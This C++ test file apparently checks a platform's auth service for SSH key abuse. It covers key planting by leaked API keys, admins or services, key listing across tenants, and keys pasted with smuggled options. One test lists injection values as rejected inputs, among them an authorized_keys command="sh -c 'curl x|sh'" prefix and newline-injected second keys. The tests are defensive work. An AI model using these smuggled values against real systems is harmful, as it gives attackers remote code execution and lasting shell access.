// Attacks on the SSH keys a tenant's instances trust (User.ssh_public_keys, ListAuthorizedKeys):
// a key is a way into every instance of the user's tenants, so it is a credential. A leaked API
// key, a tenant admin or a platform-level machine must not plant one; a viewer's or a disabled
// user's key must not be trusted; another tenant's keys are not listed; a pasted "key" that
// smuggles options or a second line into authorized_keys is refused. The auth service over real
// gRPC on real PostgreSQL (tests/auth/auth_stack.h); what the instances then trust is
// sshd_image_test's and session_attack_test's.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "libs/testing/pg_test.h"
#include "tests/auth/auth_stack.h"

namespace gpuaas::security {
namespace {

namespace pb = ::gpuaas::auth::v1;
using auth::testing::AuthStack;
using auth::testing::AuthStackTest;

// ssh-keygen -t ed25519 (two keys).
constexpr const char* kKeyA =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFiZJpML3nAyVZErME87CmA912oq/vHdMd3cpR4zjQtb";
constexpr const char* kKeyB =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKCimE3Q7TbTQmdWoGAvSJ1pPhDNIOor/jnsYc5fEVTa";

class SshKeyAttackTest : public AuthStackTest {
 protected:
  void SetUp() override {
    AuthStackTest::SetUp();
    if (IsSkipped()) return;
    stack_->CreateTenant("studio");
    stack_->CreateTenant("rival");
    member_ = stack_->CreateUser("ana", "studio", common::v1::ROLE_MEMBER);
    viewer_ = stack_->CreateUser("vic", "studio", common::v1::ROLE_VIEWER);
    admin_of_studio_ = stack_->CreateUser("tia", "studio", common::v1::ROLE_TENANT_ADMIN);
    stack_->CreateUser("rex", "rival", common::v1::ROLE_MEMBER);
  }

  grpc::Status SetKeys(const std::string& token, const std::string& user_id,
                       std::vector<std::string> keys, pb::User* out = nullptr) {
    pb::UpdateUserRequest req;
    req.mutable_user()->set_user_id(user_id);
    for (std::string& k : keys) req.mutable_user()->add_ssh_public_keys(std::move(k));
    req.mutable_update_mask()->add_paths("ssh_public_keys");
    pb::User ignored;
    return stub().UpdateUser(Ctx(token).get(), req, out != nullptr ? out : &ignored);
  }
  std::string Token(const std::string& user, const std::string& tenant = "") {
    return stack_->Login(user, AuthStack::PasswordOf(user), tenant);
  }
  // The keys `token` reads for `tenant`, as "user_name key" lines; the status through `status`.
  std::set<std::string> Listed(const std::string& token, const std::string& tenant,
                               grpc::StatusCode* status = nullptr) {
    pb::ListAuthorizedKeysRequest req;
    req.set_tenant_id(tenant);
    pb::ListAuthorizedKeysResponse out;
    const grpc::Status s = stub().ListAuthorizedKeys(Ctx(token).get(), req, &out);
    if (status != nullptr) *status = s.error_code();
    std::set<std::string> lines;
    for (const pb::AuthorizedKey& k : out.keys())
      lines.insert(k.user_name() + " " + k.public_key());
    return lines;
  }

  std::string member_;
  std::string viewer_;
  std::string admin_of_studio_;
};

TEST_F(SshKeyAttackTest, OnlyTheUserLoggedInOrAPlatformAdminSetsItsKeys) {
  const std::string ana = Token("ana");
  // A leaked API key of the member (even one with the member's full role) plants no key: it
  // would turn a key scoped to API calls into a shell on every instance.
  const std::string api =
      stack_->ExchangeApiKey(stack_->CreateApiKey(ana, "ci", common::v1::ROLE_MEMBER));
  EXPECT_EQ(SetKeys(api, member_, {kKeyB}).error_code(), grpc::StatusCode::PERMISSION_DENIED);
  // The tenant's admin manages people, not their credentials.
  EXPECT_EQ(SetKeys(Token("tia"), member_, {kKeyB}).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);
  // Another tenant's member does not even see the user.
  EXPECT_EQ(SetKeys(Token("rex"), member_, {kKeyB}).error_code(), grpc::StatusCode::NOT_FOUND);
  // A service (what the instance service holds) reads keys; it writes none.
  stack_->CreateServiceUser("robot");
  EXPECT_EQ(SetKeys(Token("robot", "studio"), member_, {kKeyB}).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);
  EXPECT_TRUE(Listed(admin_, "studio").empty());

  pb::User out;
  ASSERT_TRUE(SetKeys(ana, member_, {std::string(kKeyA) + " ana@laptop\n"}, &out).ok());
  ASSERT_EQ(out.ssh_public_keys_size(), 1);
  EXPECT_EQ(out.ssh_public_keys(0), std::string(kKeyA) + " ana@laptop");
  EXPECT_EQ(Listed(admin_, "studio"), std::set<std::string>{"ana " + out.ssh_public_keys(0)});
}

TEST_F(SshKeyAttackTest, APastedKeyCarriesNoOptionsAndNoSecondLine) {
  const std::string ana = Token("ana");
  for (const std::string& smuggled : {
           std::string("command=\"sh -c 'curl x|sh'\" ") + kKeyA,
           std::string("no-pty,from=\"*\" ") + kKeyA,
           std::string(kKeyA) + " me\n" + kKeyB,         // a second entry, unchecked
           std::string(kKeyA) + " me\ncommand=\"id\" ",  // a second line of options
           std::string(kKeyA) + " me\r" + kKeyB,
           std::string("ssh-ed25519 ") + std::string(40, 'A') + "==",  // not a key
       }) {
    const grpc::Status s = SetKeys(ana, member_, {smuggled});
    EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT) << smuggled;
    EXPECT_NE(s.error_message().find("user.ssh_public_keys[0]"), std::string::npos)
        << s.error_message();
  }
  EXPECT_TRUE(Listed(admin_, "studio").empty());
}

TEST_F(SshKeyAttackTest, OnlyMembersWhoMayUseInstancesAreTrusted) {
  ASSERT_TRUE(SetKeys(Token("ana"), member_, {kKeyA}).ok());
  ASSERT_TRUE(SetKeys(Token("vic"), viewer_, {kKeyB}).ok());
  // A viewer reads instances; a shell would let it change them.
  EXPECT_EQ(Listed(admin_, "studio"), std::set<std::string>{std::string("ana ") + kKeyA});

  // Another tenant's member, or a viewer of its own, lists nothing of another tenant.
  grpc::StatusCode code;
  EXPECT_TRUE(Listed(Token("rex"), "studio", &code).empty());
  EXPECT_EQ(code, grpc::StatusCode::NOT_FOUND);

  // Demoted to viewer, disabled, or removed: trusted no more.
  stack_->RemoveMember("studio", member_);
  EXPECT_TRUE(Listed(admin_, "studio").empty());
  stack_->AddMember("studio", member_, common::v1::ROLE_MEMBER);
  EXPECT_EQ(Listed(admin_, "studio").size(), 1u);
  pb::UpdateUserRequest disable;
  disable.mutable_user()->set_user_id(member_);
  disable.mutable_user()->set_disabled(true);
  disable.mutable_update_mask()->add_paths("disabled");
  pb::User ignored;
  ASSERT_TRUE(stub().UpdateUser(Ctx(admin_).get(), disable, &ignored).ok());
  EXPECT_TRUE(Listed(admin_, "studio").empty());
}

}  // namespace
}  // namespace gpuaas::security
